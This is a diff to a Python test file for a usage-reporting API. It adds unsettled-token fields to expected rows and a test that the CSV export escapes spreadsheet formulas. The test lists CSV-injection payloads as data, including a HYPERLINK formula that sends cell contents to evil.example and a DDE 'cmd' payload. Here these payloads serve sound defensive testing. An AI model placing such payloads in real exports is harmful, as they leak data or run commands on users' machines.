@@ -15,7 +15,7 @@ from extproc.authz.api_keys import ApiKeyIdentities
 from extproc.config import Secret, StoreConfig
 from extproc.observability.usage_api import UsageApi
 from extproc.observability.usage_query import utc_today
-from extproc.store.base import CounterStore, LedgerEntry
+from extproc.store.base import CounterStore, Hold, LedgerEntry
 from extproc.store.memory import MemoryStore
 from extproc.store.redis import RedisStore
 from tests.helpers import KEYS, LOCAL
@@ -52,6 +52,8 @@ async def seed(store: CounterStore) -> None:
     now_ms = time.time_ns() // 1_000_000
     for item in SEED:
         await store.settle([], item, now_ms)
+    # One request admitted today whose charge never came: 40 tokens held, unsettled.
+    await store.admit([], now_ms, Hold("alice", TODAY.strftime("%Y%m%d"), "opt", 40))
 
 
 def redis_store(port: int) -> RedisStore:
@@ -115,9 +117,11 @@ async def test_own_usage_by_day_with_totals(client: httpx.AsyncClient) -> None:
     assert body["group_by"] == "day"
     assert body["rows"] == [
         {"day": YESTERDAY.isoformat(), "prompt_tokens": 10, "completion_tokens": 5,
-         "total_tokens": 15, "estimated_tokens": 0, "requests": 1},
+         "total_tokens": 15, "estimated_tokens": 0, "requests": 1,
+         "unsettled_tokens": 0, "unsettled_requests": 0},
         {"day": TODAY.isoformat(), "prompt_tokens": 4, "completion_tokens": 5,
-         "total_tokens": 9, "estimated_tokens": 0, "requests": 2},
+         "total_tokens": 9, "estimated_tokens": 0, "requests": 2,
+         "unsettled_tokens": 40, "unsettled_requests": 1},
     ]  # fmt: skip
     assert body["totals"] == {
         "prompt_tokens": 14,
@@ -125,6 +129,8 @@ async def test_own_usage_by_day_with_totals(client: httpx.AsyncClient) -> None:
         "total_tokens": 24,
         "estimated_tokens": 0,
         "requests": 3,
+        "unsettled_tokens": 40,
+        "unsettled_requests": 1,
     }
 
 
@@ -193,7 +199,7 @@ async def test_an_admin_reads_everyone_and_lists_users(client: httpx.AsyncClient
     ]
     assert body["totals"]["total_tokens"] == 174
     as_csv = await client.get("/v1/usage/users", params={"format": "csv"}, headers=as_(ADMIN_KEY))
-    assert as_csv.text.splitlines()[1:] == ["alice,4,5,9,0,2", "bob,100,50,150,0,1"]
+    assert as_csv.text.splitlines()[1:] == ["alice,4,5,9,0,2,40,1", "bob,100,50,150,0,1,0,0"]
 
 
 @pytest.mark.parametrize(
@@ -265,3 +271,39 @@ async def test_store_down_is_503(own_redis_server: RedisServer) -> None:
     finally:
         await api.stop()
         await backend.close()
+
+
+# Cells a spreadsheet would run as formulas (OWASP CSV injection), as user ids and model names.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def first_column(text: str) -> list[str]:
+    return [row[0] for row in csv.reader(io.StringIO(text))][1:]
+
+
+async def test_csv_cells_never_start_a_formula(
+    store: CounterStore, client: httpx.AsyncClient
+) -> None:
+    now_ms = time.time_ns() // 1_000_000
+    for name in HOSTILE:
+        await store.settle([], entry(name, TODAY, "opt", 1, 1), now_ms)
+        await store.settle([], entry("alice", TODAY, name, 1, 1), now_ms)
+    users = await client.get("/v1/usage/users", params={"format": "csv"}, headers=as_(ADMIN_KEY))
+    models = await client.get(
+        "/v1/usage", params={"format": "csv", "group_by": "model"}, headers=ALICE
+    )
+    assert sorted(first_column(users.text)) == sorted(
+        ["alice", "bob", *("'" + name for name in HOSTILE)]
+    )
+    assert sorted(first_column(models.text)) == sorted(
+        ["llama", "opt", *("'" + name for name in HOSTILE)]
+    )
+    document = (await client.get("/v1/usage/users", headers=as_(ADMIN_KEY))).json()
+    assert {row["user"] for row in document["rows"]} >= set(HOSTILE)  # JSON keeps them as they are
